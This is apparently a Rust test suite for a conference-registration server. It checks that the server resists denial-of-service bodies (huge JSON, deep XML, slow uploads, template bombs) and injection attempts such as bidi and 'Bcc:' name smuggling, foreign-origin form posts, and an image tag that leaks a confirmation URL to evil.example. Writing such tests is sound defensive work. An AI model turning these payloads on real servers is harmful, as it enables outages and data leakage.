//! Hardening II (docs/security.md): what an anonymous client or a careless import could do to
//! the whole server — burn its CPU with bodies of thousands of bad members, crash it with a
//! deep XML import, hold its connections with slow bodies, grow its memory with failed logins
//! or an error flood — and the smaller holes found with them. Each test fails on the code
//! before these limits.

use std::io::{Read, Write};
use std::time::{Duration, Instant};

use futures::future::join_all;
use reqwest::StatusCode;
use serde_json::{json, Value};

use crate::bookings::{attendee, release, session};
use crate::helpers::*;

/// A JSON object of `n` members the route does not know, with the fields it needs, under 64 KiB.
fn unknown_members(n: usize, fields: Value) -> String {
    let mut body = String::from("{");
    for i in 0..n {
        body.push_str(&format!("\"m{i:04}\":1,"));
    }
    let fields = fields.to_string();
    body.push_str(fields.trim_start_matches('{'));
    assert!(body.len() < 65_536, "{} bytes", body.len());
    body
}

async fn post_raw(
    app: &TestApp,
    path: &str,
    token: Option<&str>,
    body: String,
) -> (StatusCode, Value, Duration) {
    let mut req = app
        .client
        .post(app.url(path))
        .header("content-type", "application/json")
        .body(body);
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    let started = Instant::now();
    let res = req.send().await.expect("post");
    let status = res.status();
    let value = res.json().await.unwrap_or(Value::Null);
    (status, value, started.elapsed())
}

#[tokio::test]
async fn thousands_of_unknown_members_are_answered_at_once_and_the_programme_stays_fast() {
    // As in production: the default public budget, two workers.
    let app = spawn_app_with(|s| {
        s.rate_limit.per_minute = 30;
        s.server.workers = 2;
    })
    .await;
    let slug = app.open_event("cpu", None).await;
    let path = format!("/api/v1/events/{slug}/registrations");
    let bomb = unknown_members(
        6_400,
        json!({"name": "Amina", "email": "a@example.ma", "consent": true}),
    );
    let (status, body, _) = post_raw(&app, &path, None, bomb.clone()).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    let errors = body["errors"].as_array().expect("errors");
    assert_eq!(errors.len(), 101, "the first 100 and a summary");
    assert_eq!(errors[0]["field"], "m0000");
    let summary = errors[100]["message"].as_str().unwrap_or("");
    assert!(
        summary.contains("6303 more members were not checked"),
        "{summary}"
    );
    // What the parse costs, and what the reads below take meanwhile, is measured by
    // bench/abuse.py on a release build (bench/README.md, "Abuse"), not asserted here: the
    // tests share two cores and a timed assertion fails with the machine's load.

    // Four clients sending such bodies while a visitor reads the programme: each body costs
    // little, and past the address's budget a 429 costs no parse at all.
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let senders: Vec<_> = (0..4)
        .map(|_| {
            let (client, url, bomb, stop) = (
                app.client.clone(),
                app.url(&path),
                bomb.clone(),
                stop.clone(),
            );
            tokio::spawn(async move {
                let mut sent = 0;
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    let _ = client
                        .post(&url)
                        .header("content-type", "application/json")
                        .body(bomb.clone())
                        .send()
                        .await;
                    sent += 1;
                }
                sent
            })
        })
        .collect();
    for _ in 0..21 {
        let (status, _) = app.get(&format!("/api/v1/events/{slug}"), None).await;
        assert_eq!(status, StatusCode::OK);
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let sent: usize = join_all(senders)
        .await
        .into_iter()
        .map(|r| r.unwrap_or(0))
        .sum();
    assert!(sent >= 4, "the senders ran ({sent})");
}

#[tokio::test]
async fn the_rate_limit_and_the_credentials_come_before_the_body() {
    let app = spawn_app_with(|s| s.rate_limit.per_minute = 2).await;
    let slug = app.open_event("limit", None).await;
    let path = format!("/api/v1/events/{slug}/registrations");
    for i in 0..2 {
        let (status, body) = app
            .post(
                &path,
                None,
                json!({"name": "A", "email": format!("a{i}@example.ma"), "consent": true}),
            )
            .await;
        assert_eq!(status, StatusCode::ACCEPTED, "{body}");
    }
    let bomb = unknown_members(
        6_400,
        json!({"name": "Amina", "email": "a@example.ma", "consent": true}),
    );
    let (status, body, _) = post_raw(&app, &path, None, bomb.clone()).await;
    assert_eq!(
        status,
        StatusCode::TOO_MANY_REQUESTS,
        "counted before the body: {body}"
    );

    let (status, body, _) = post_raw(
        &app,
        "/api/v1/me/bookings",
        Some("slr_0000000000000000000000000000000000000000000"),
        unknown_members(6_000, json!({"session_id": "x"})),
    )
    .await;
    assert_eq!(
        status,
        StatusCode::UNAUTHORIZED,
        "no body errors for a stranger: {body}"
    );
    for path in ["/api/v1/exhibitor/staff", "/api/v1/exhibitor"] {
        let mut req = app
            .client
            .request(
                if path.ends_with("staff") {
                    reqwest::Method::POST
                } else {
                    reqwest::Method::PATCH
                },
                app.url(path),
            )
            .bearer_auth("sle_0000000000000000000000000000000000000000000")
            .header("content-type", "application/json");
        req = req.body(unknown_members(6_000, json!({"email": "not an address"})));
        let status = req.send().await.expect("send").status();
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{path}");
    }
}

#[tokio::test]
async fn a_deep_xml_import_is_refused_and_the_server_lives() {
    let app = spawn_app().await;
    let slug = app.create_event("deep").await;
    for open in ["<a>", "<a x=\"/>\">"] {
        let deep = format!(
            "<schedule>{}{}</schedule>",
            open.repeat(20_000),
            "</a>".repeat(20_000)
        );
        let res = app
            .client
            .post(app.url(&format!("/api/v1/events/{slug}/schedule/import")))
            .bearer_auth(&app.admin)
            .header("content-type", "application/xml")
            .body(deep)
            .send()
            .await
            .expect("post");
        assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY, "{open}");
        let body: Value = res.json().await.expect("problem");
        assert!(
            body["errors"][0]["message"]
                .as_str()
                .unwrap_or("")
                .contains("nested"),
            "{body}"
        );
    }
    let (status, _) = app.get("/healthz", None).await;
    assert_eq!(status, StatusCode::OK, "the process is alive");
}

#[tokio::test]
async fn an_import_error_flood_is_capped() {
    let app = spawn_app().await;
    let slug = app.create_event("flood").await;
    let days = vec!["1"; 200_000].join(",");
    let res = app
        .client
        .post(app.url(&format!("/api/v1/events/{slug}/schedule/import")))
        .bearer_auth(&app.admin)
        .header("content-type", "application/json")
        .body(format!(
            r#"{{"schedule": {{"conference": {{"days": [{days}]}}}}}}"#
        ))
        .send()
        .await
        .expect("post");
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let text = res.text().await.expect("body");
    assert!(text.len() < 32 * 1024, "{} bytes", text.len());
    let body: Value = serde_json::from_str(&text).expect("json");
    let errors = body["errors"].as_array().expect("errors");
    assert_eq!(errors.len(), 101);
    assert!(
        errors[100]["message"]
            .as_str()
            .unwrap_or("")
            .contains("199900 more"),
        "{body}"
    );
}

/// Sends a request's head announcing a 60,000-byte body, and one byte of it.
fn slow_body(address: &str) -> std::net::TcpStream {
    let mut stream =
        std::net::TcpStream::connect(address.trim_start_matches("http://")).expect("connect");
    write!(
        stream,
        "POST /api/v1/registrations/confirm HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{{"
    )
    .expect("write");
    stream
}

#[tokio::test]
async fn slow_bodies_are_answered_408_and_closed_within_the_timeout() {
    let app = spawn_app_with(|s| s.server.body_timeout = Duration::from_secs(1)).await;
    let address = app.address.clone();
    let started = Instant::now();
    let answers = tokio::task::spawn_blocking(move || {
        let streams: Vec<_> = (0..50).map(|_| slow_body(&address)).collect();
        streams
            .into_iter()
            .map(|mut s| {
                s.set_read_timeout(Some(Duration::from_secs(10)))
                    .expect("timeout");
                let mut answer = String::new();
                // read_to_string ends only when the server closes the connection.
                s.read_to_string(&mut answer)
                    .map(|_| answer)
                    .unwrap_or_default()
            })
            .collect::<Vec<_>>()
    });
    // Meanwhile the server answers.
    tokio::time::sleep(Duration::from_millis(200)).await;
    let (status, _) = app.get("/readyz", None).await;
    assert_eq!(status, StatusCode::OK);
    let answers = answers.await.expect("slow clients");
    let took = started.elapsed();
    for answer in &answers {
        assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
        assert!(answer.contains("problem+json"), "{answer}");
    }
    assert!(took < Duration::from_secs(4), "closed after {took:?}");
}

#[tokio::test]
async fn a_trickle_of_chunks_after_an_early_answer_does_not_hold_the_connection() {
    let app = spawn_app_with(|s| s.server.body_timeout = Duration::from_secs(1)).await;
    let address = app.address.clone();
    let held = tokio::task::spawn_blocking(move || {
        // A route that answers without reading the body (405), then one that reads it (408).
        ["/healthz", "/api/v1/registrations/confirm"].map(|path| {
            let mut s = std::net::TcpStream::connect(address.trim_start_matches("http://"))
                .expect("connect");
            write!(
                s,
                "POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
            )
            .expect("head");
            s.set_read_timeout(Some(Duration::from_millis(100))).expect("timeout");
            let started = Instant::now();
            let mut answer = Vec::new();
            while started.elapsed() < Duration::from_secs(8) {
                if s.write_all(b"1\r\n{\r\n").is_err() {
                    break;
                }
                let mut buf = [0u8; 4096];
                match s.read(&mut buf) {
                    Ok(0) => break,
                    Ok(n) => answer.extend_from_slice(&buf[..n]),
                    Err(_) => {}
                }
                std::thread::sleep(Duration::from_millis(200));
            }
            (started.elapsed(), String::from_utf8_lossy(&answer).to_string())
        })
    })
    .await
    .expect("trickler");
    let [(early, answer), (read, timed_out)] = held;
    assert!(answer.starts_with("HTTP/1.1 405"), "{answer}");
    assert!(early < Duration::from_secs(4), "held {early:?} after a 405");
    assert!(timed_out.starts_with("HTTP/1.1 408"), "{timed_out}");
    assert!(read < Duration::from_secs(4), "held {read:?} after a 408");
}

#[tokio::test]
async fn four_hundred_parallel_failed_logins_stay_under_256_mib() {
    let (mut salon, base, dir) = start_salon(
        "logins",
        &[
            ("SALON__RATE_LIMIT__PER_MINUTE", "100000"),
            ("SALON_LOG", "warn"),
        ],
        std::process::Stdio::null(),
    )
    .await;
    let client = reqwest::Client::new();
    let url = format!("{base}/api/v1/auth/tokens");
    let mut statuses = std::collections::BTreeMap::new();
    for round in 0..50 {
        let requests = (0..8).map(|i| {
            client
                .post(&url)
                .json(&json!({"email": format!("nobody{round}-{i}@example.ma"), "password": "wrong password", "name": "x"}))
                .send()
        });
        for res in join_all(requests).await {
            *statuses
                .entry(res.expect("answer").status().as_u16())
                .or_insert(0) += 1;
        }
    }
    let status =
        std::fs::read_to_string(format!("/proc/{}/status", salon.id())).unwrap_or_default();
    let _ = salon.kill();
    let _ = salon.wait();
    let _ = std::fs::remove_dir_all(&dir);
    assert!(statuses.get(&401).copied().unwrap_or(0) > 0, "{statuses:?}");
    assert!(
        statuses.keys().all(|s| [401, 503].contains(s)),
        "wrong password or come back: {statuses:?}"
    );
    if let Some(peak) = status.lines().find(|l| l.starts_with("VmHWM:")) {
        let kib: u64 = peak
            .split_whitespace()
            .nth(1)
            .and_then(|n| n.parse().ok())
            .expect("VmHWM in kB");
        assert!(kib < 256 * 1024, "peak resident memory {} MiB", kib / 1024);
    }
}

#[tokio::test]
async fn a_template_bomb_or_a_tracking_pixel_is_refused_when_saved() {
    let app = spawn_app().await;
    let slug = app.create_event("bomb").await;
    let path = format!("/api/v1/events/{slug}/email-templates/registration_confirm/fr");
    let (status, body) = app
        .put_json(&path, json!({
            "subject": "{{ event_name }}",
            "text": "{% if name != \"sample name\" %}{% set a = \"x\"*100000000 %}{{a}}{{a}}{% endif %}",
            "html": "<p>{{ name }}</p>",
        }))
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(error_fields(&body), vec!["text"]);
    let (status, body) = app
        .put_json(&path, json!({
            "subject": "{{ event_name }}",
            "text": "{{ confirm_url }}",
            "html": "<p>{{ name }}</p><img src=\"https://evil.example/p.gif?t={{ confirm_url }}\">",
        }))
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(error_fields(&body), vec!["html"]);
}

#[tokio::test]
async fn one_line_fields_refuse_direction_overrides_and_separators_and_emails_refuse_ip_literals() {
    let app = spawn_app().await;
    let slug = app.open_event("bidi", None).await;
    let path = format!("/api/v1/events/{slug}/registrations");
    for (name, email, field) in [
        ("Amina\u{202E}gpj.exe", "a@example.ma", "name"),
        ("Amina\u{2028}Bcc: x", "b@example.ma", "name"),
        ("Ami\u{200B}na", "c@example.ma", "name"),
        ("Amina", "user@[127.0.0.1]", "email"),
        ("Amina", "user@10.0.0.1", "email"),
    ] {
        let (status, body) = app
            .post(
                &path,
                None,
                json!({"name": name, "email": email, "consent": true}),
            )
            .await;
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{name} {email}: {body}"
        );
        assert_eq!(error_fields(&body), vec![field]);
    }
    assert!(
        app.outbox("registration_confirm").is_empty(),
        "nothing written"
    );
}

/// A published fair `slug` whose released programme holds one workshop (10:00–11:00): the
/// fixture and the workshop's id.
async fn released_workshop(app: &TestApp, slug: &str) -> (Fixture, i64) {
    let f = app.programme_fixture(slug).await;
    let body = session_body("Atelier", f.room_a, "10:00", "11:00", &[]);
    let s = session(app, &f, body).await;
    release(app, &f.slug, "1.0").await;
    (f, s)
}

/// A browser without redirects, and the Set-Cookie value of `name` in a response.
fn browser() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("client")
}

fn set_cookie(res: &reqwest::Response, name: &str) -> Option<String> {
    res.headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|c| c.starts_with(&format!("{name}=")))
        .and_then(|c| c.split(';').next())
        .map(str::to_string)
}

#[tokio::test]
async fn the_seat_cookie_is_not_the_feed_token_and_a_get_does_not_replace_it() {
    let app = spawn_app().await;
    let (f, s) = released_workshop(&app, "cookie").await;
    let amina = attendee(&app, &f.slug, "amina@cookie.ma", "fr").await;
    let omar = attendee(&app, &f.slug, "omar@cookie.ma", "fr").await;
    let browser = browser();

    let res = browser
        .get(app.url(&format!("/r/{amina}")))
        .send()
        .await
        .expect("get");
    let cookie = set_cookie(&res, "salon_attendee").expect("the seat cookie");
    let (_, me) = app.get("/api/v1/me", Some(&amina)).await;
    let feed = me["agenda_url"]
        .as_str()
        .expect("feed")
        .rsplit('/')
        .next()
        .expect("name")
        .trim_end_matches(".ics")
        .to_string();
    assert!(
        !cookie.contains(&feed),
        "the cookie is not the feed token: {cookie}"
    );

    // A GET of someone else's page keeps the visitor's own cookie.
    let res = browser
        .get(app.url(&format!("/r/{omar}")))
        .header("cookie", &cookie)
        .send()
        .await
        .expect("get");
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(set_cookie(&res, "salon_attendee"), None, "not replaced");
    // Omar's page offers his button instead; his POST switches the browser to him.
    let html = res.text().await.expect("html");
    let action = format!("/r/{omar}/remember");
    assert!(html.replace("&#x2f;", "/").contains(&action), "{html}");
    let switched = browser
        .post(app.url(&format!("{action}?lang=fr")))
        .header("cookie", &cookie)
        .header("origin", app.address.clone())
        .form(&[("csrf", salon::web::csrf::token("test-secret-key", &action))])
        .send()
        .await
        .expect("post");
    assert_eq!(switched.status(), StatusCode::SEE_OTHER);
    let omars = set_cookie(&switched, "salon_attendee").expect("switched");
    assert_ne!(omars, cookie);

    // The feed token, given as the cookie, books nothing; the seat cookie does.
    let page = app.url(&format!("/events/{}/sessions/{s}?lang=fr", f.slug));
    let html = browser
        .get(&page)
        .header("cookie", &cookie)
        .send()
        .await
        .expect("get")
        .text()
        .await
        .expect("html");
    let csrf = csrf_of(&html);
    let book = |cookie: String| {
        browser
            .post(app.url(&format!("/events/{}/bookings?lang=fr", f.slug)))
            .header("cookie", cookie)
            .header("origin", app.address.clone())
            .form(&[
                ("csrf", csrf.clone()),
                ("session_id", s.to_string()),
                ("action", "book".into()),
                ("back", format!("/events/{}/sessions/{s}\n", f.slug)),
            ])
            .send()
    };
    let res = book(format!("salon_attendee={feed}")).await.expect("post");
    assert_eq!(res.status(), StatusCode::NOT_FOUND);
    let (_, me) = app.get("/api/v1/me", Some(&amina)).await;
    assert_eq!(me["bookings"].as_array().map(Vec::len), Some(0));
    // A line break in `back` (a decoded %0a) is no 500: the seat is booked and the visitor
    // goes back to the programme.
    let res = book(cookie.clone()).await.expect("post");
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        res.headers()["location"],
        format!("/events/{}?lang=fr", f.slug)
    );
    let (_, me) = app.get("/api/v1/me", Some(&amina)).await;
    assert_eq!(me["bookings"][0]["session_id"], s);
}

#[tokio::test]
async fn a_cancelled_attendee_is_told_why_a_seat_is_refused() {
    let app = spawn_app().await;
    let (f, s) = released_workshop(&app, "told").await;
    let token = attendee(&app, &f.slug, "gone@told.ma", "fr").await;
    let (status, _) = app.delete("/api/v1/me", Some(&token)).await;
    assert!(status.is_success());
    let action = format!("/r/{token}/bookings");
    let res = browser()
        .post(app.url(&format!("{action}?lang=fr")))
        .header("origin", app.address.clone())
        .form(&[
            ("csrf", salon::web::csrf::token("test-secret-key", &action)),
            ("session_id", s.to_string()),
            ("action", "book".into()),
            ("back", String::new()),
        ])
        .send()
        .await
        .expect("post");
    assert_eq!(res.status(), StatusCode::CONFLICT);
    let html = res.text().await.expect("html");
    assert!(html.contains("Réservation impossible"), "{html}");
    assert!(!html.contains("Lien déjà utilisé"), "{html}");
    // Nor may a cancelled registration take a browser's seat cookie; a form that cannot be
    // verified offers the attendee's page to retry from, in its language.
    let remember = format!("/r/{token}/remember");
    let post = |csrf: String| {
        browser()
            .post(app.url(&format!("{remember}?lang=fr")))
            .header("origin", app.address.clone())
            .form(&[("csrf", csrf)])
            .send()
    };
    let res = post(salon::web::csrf::token("test-secret-key", &remember))
        .await
        .expect("post");
    assert_eq!(res.status(), StatusCode::CONFLICT);
    assert!(set_cookie(&res, "salon_attendee").is_none());
    let html = res.text().await.expect("html");
    assert!(html.contains("Réservation impossible"), "{html}");
    let res = post("forged".into()).await.expect("post");
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    let html = res.text().await.expect("html").replace("&#x2f;", "/");
    assert!(
        html.contains(&format!("href=\"/r/{token}?lang=fr\"")),
        "one language in the retry link: {html}"
    );
}

#[tokio::test]
async fn a_form_from_another_scheme_port_or_forwarded_host_is_refused() {
    let app = spawn_app().await;
    let slug = app.open_event("origin", None).await;
    let (_, csrf) = app
        .page_and_csrf(&format!("/events/{slug}/register?lang=fr"))
        .await;
    let port: u16 = app
        .address
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .expect("port");
    for (origin, forwarded) in [
        (format!("http://127.0.0.1:{}", port + 1), None),
        (format!("https://127.0.0.1:{port}"), None),
        ("http://evil.example".to_string(), Some("evil.example")),
    ] {
        let mut req = browser()
            .post(app.url(&format!("/events/{slug}/register?lang=fr")))
            .header("origin", origin.clone())
            .form(&[
                ("csrf", csrf.as_str()),
                ("name", "Amina"),
                ("email", "x@origin.ma"),
                ("consent", "on"),
            ]);
        if let Some(host) = forwarded {
            req = req.header("x-forwarded-host", host);
        }
        let res = req.send().await.expect("post");
        assert_eq!(res.status(), StatusCode::FORBIDDEN, "{origin}");
    }
    assert!(
        app.outbox("registration_confirm").is_empty(),
        "nothing written"
    );
}

#[tokio::test]
async fn sqlite_overwrites_what_it_frees() {
    let app = spawn_app().await;
    if app.settings.database.url.expose().starts_with("postgres") {
        return;
    }
    use diesel::prelude::*;
    #[derive(QueryableByName)]
    struct Pragma {
        #[diesel(sql_type = diesel::sql_types::Integer)]
        secure_delete: i32,
    }
    let mut pooled = app.db.get().expect("connection");
    let rows: Vec<Pragma> = salon::run!(&mut pooled.conn(), |c| diesel::sql_query(
        "PRAGMA secure_delete"
    )
    .load(c))
    .expect("pragma");
    assert_eq!(rows[0].secure_delete, 1);
}

#[tokio::test]
async fn a_first_start_on_a_new_database_logs_no_error() {
    let (mut salon, _, dir) = start_salon("first", &[], std::process::Stdio::piped()).await;
    let _ = salon.kill();
    let mut log = String::new();
    if let Some(mut err) = salon.stderr.take() {
        let _ = err.read_to_string(&mut log);
    }
    let _ = salon.wait();
    let _ = std::fs::remove_dir_all(&dir);
    assert!(
        log.contains("Salon is listening"),
        "the log was read: {log}"
    );
    // Started by cargo (as `cargo test` starts it), it says to go on with cargo: `salon` is on
    // nobody's PATH after a clone.
    assert!(
        log.contains("cargo run --release -- admin create --email"),
        "{log}"
    );
    // Started as a program, it names the program as it was called.
    let (mut salon, _, dir) =
        start_salon("first-bin", &[("CARGO", "")], std::process::Stdio::piped()).await;
    let _ = salon.kill();
    let mut log = String::new();
    if let Some(mut err) = salon.stderr.take() {
        let _ = err.read_to_string(&mut log);
    }
    let _ = salon.wait();
    let _ = std::fs::remove_dir_all(&dir);
    let program = format!("{} admin create --email", env!("CARGO_BIN_EXE_salon"));
    assert!(log.contains(&program), "{log}");
    assert!(
        !log.contains("ERROR") && !log.contains("database is locked"),
        "{log}"
    );
}

/// The real binary on a new SQLite database in a folder of its own (`name`), with its default
/// log level unless `env` sets one, its standard error to `stderr`, once `/readyz` answers: the
/// process, its address and its folder.
async fn start_salon(
    name: &str,
    env: &[(&str, &str)],
    stderr: std::process::Stdio,
) -> (std::process::Child, String, std::path::PathBuf) {
    let dir = std::env::temp_dir().join(format!("salon-{name}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .expect("port")
        .local_addr()
        .expect("addr")
        .port();
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_salon"));
    command
        .current_dir(&dir)
        .env("SALON__SERVER__BIND", format!("127.0.0.1:{port}"))
        .env("SALON__MAIL__WORKER", "false")
        .env_remove("SALON_LOG")
        .stdout(std::process::Stdio::null())
        .stderr(stderr);
    for (key, value) in env {
        command.env(key, value);
    }
    let mut salon = command.spawn().expect("start salon");
    let base = format!("http://127.0.0.1:{port}");
    let client = reqwest::Client::new();
    for _ in 0..100 {
        let ready = client.get(format!("{base}/readyz")).send().await;
        if ready.is_ok_and(|r| r.status().is_success()) {
            return (salon, base, dir);
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let _ = salon.kill();
    let _ = salon.wait();
    panic!("salon did not start in {}", dir.display());
}
